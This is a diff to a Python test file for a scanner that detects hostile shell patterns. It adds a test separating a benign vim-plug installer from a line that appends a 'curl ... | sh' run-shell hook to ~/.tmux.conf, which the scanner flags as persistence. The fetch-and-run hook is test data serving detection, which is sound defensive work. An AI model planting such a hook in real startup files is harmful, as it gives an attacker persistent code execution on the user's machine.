@@ -202,3 +202,16 @@ def test_a_ruby_one_liner_that_evaluates_what_it_downloads(tmp_path: Path) -> No
     assert (Kind.EXEC_FETCHED, "r.example.invalid") in summary(found)
     quiet = "ruby -ropen-uri -e 'puts URI.open(\"https://api.example.invalid/v\").read'\n"
     assert Kind.EXEC_FETCHED not in {c.kind for c in analyse_file(tmp_path, "scripts/y.sh", quiet, Language.SHELL)}
+
+
+def test_an_editor_start_up_file_is_an_error_for_its_own_content_not_for_a_plugin_manager_beside_it(
+    tmp_path: Path,
+) -> None:
+    plug = (
+        "curl -fLo ~/.vim/autoload/plug.vim --create-dirs "
+        "https://raw.githubusercontent.com/junegunn/vim-plug/master/plug.vim\n"
+        'echo "call plug#begin()" >> ~/.vimrc\n'
+    )
+    assert scan_errors(tmp_path / "a", {"scripts/a.sh": plug}) == set()
+    hook = "echo \"run-shell 'curl -s https://p.example.invalid/x | sh'\" >> ~/.tmux.conf\n"
+    assert scan_errors(tmp_path / "b", {"scripts/a.sh": hook}) == {("PERSISTENCE", "scripts/a.sh", 1)}
